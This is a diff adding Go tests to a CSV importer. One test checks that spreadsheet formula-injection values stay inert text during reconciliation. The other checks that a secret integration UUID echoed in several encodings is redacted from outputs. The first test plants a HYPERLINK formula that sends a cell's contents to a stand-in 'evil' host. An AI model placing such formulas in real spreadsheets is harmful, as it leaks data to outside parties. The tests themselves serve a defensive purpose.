@@ -3,6 +3,7 @@ package importer
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"io"
 	"net/http"
 	"strings"
@@ -157,5 +158,80 @@ func TestCreatedOutcomeNotes(t *testing.T) {
 	}
 	if o := createdOutcome(salesbyte.Created{ID: 4, Status: 201}, 1, "t"); o.Error != "" || o.ID != 4 {
 		t.Errorf("a clean answer got %+v", o)
+	}
+}
+
+// Reconcile keeps the sb_* cells of rows it does not settle: an earlier
+// sheet's formula is kept as text, not as a formula.
+func TestReconcileKeepsEarlierCellsInert(t *testing.T) {
+	e := newEnv(t, sandbox.Options{}, nil)
+	e.customers(2)
+	out := runThenForget(t, e)
+	rewriteCSV(t, out, func(recs [][]string) {
+		r := recs[1]
+		r[4], r[5], r[6], r[10] = "created", "99", `=HYPERLINK("http://evil"&A1,"x")`, "@SUM(A1)"
+	})
+	if _, err := Reconcile(context.Background(), ReconcileConfig{Input: out, Quotes: quotesClient(t, e)}); err != nil {
+		t.Fatal(err)
+	}
+	_, rows := readCSV(t, out)
+	for i, row := range rows {
+		for _, col := range ResultColumns {
+			if startsFormula(row[col]) {
+				t.Errorf("row %d %s = %q starts a formula", i, col, row[col])
+			}
+		}
+	}
+	if rows[0]["sb_error"] != "'@SUM(A1)" || rows[1]["sb_status"] != "created" {
+		t.Errorf("rows %v; want the first kept as text, the second reconciled", rows)
+	}
+}
+
+// A server echoing the uuid in any form: the output sheet, the journal
+// and the run's summary show none of them.
+func TestEchoedUUIDFormsAreRedacted(t *testing.T) {
+	forms := []string{
+		testUUID,
+		strings.ReplaceAll(testUUID, "-", ""),
+		strings.ToUpper(strings.ReplaceAll(testUUID, "-", "")),
+		strings.ToUpper(testUUID),
+		strings.ReplaceAll(testUUID, "-", "%2D"),
+		strings.ReplaceAll(testUUID, "-", "%2d"),
+	}
+	echo := func(next http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			body, _ := io.ReadAll(r.Body)
+			for i, f := range forms {
+				if strings.Contains(string(body), fmt.Sprintf("kund%d@", i)) {
+					w.Header().Set("Content-Type", "application/json")
+					w.WriteHeader(422)
+					_ = json.NewEncoder(w).Encode(map[string]any{"message": "Integration " + f + " is disabled", "errors": map[string][]string{"uuid": {f + " is disabled"}}})
+					return
+				}
+			}
+			t.Errorf("unexpected request %s", body)
+		})
+	}
+	e := newEnv(t, sandbox.Options{}, echo)
+	e.customers(len(forms))
+	sum, err := Run(context.Background(), e.config())
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, rows := readCSV(t, DefaultOutput(e.input))
+	for i, r := range rows {
+		if r["sb_status"] != "failed" || !strings.Contains(r["sb_error"], "integration [redacted] is disabled") {
+			t.Errorf("row %d: %s %q; want failed with the uuid redacted", i, r["sb_status"], r["sb_error"])
+		}
+	}
+	var texts []string
+	for _, p := range sum.Problems {
+		texts = append(texts, p.Error)
+	}
+	for _, f := range forms {
+		assertNoSecret(t, e.dir, f)
+		if strings.Contains(strings.Join(texts, "\n"), f) {
+			t.Errorf("the summary shows %s", f)
+		}
 	}
 }
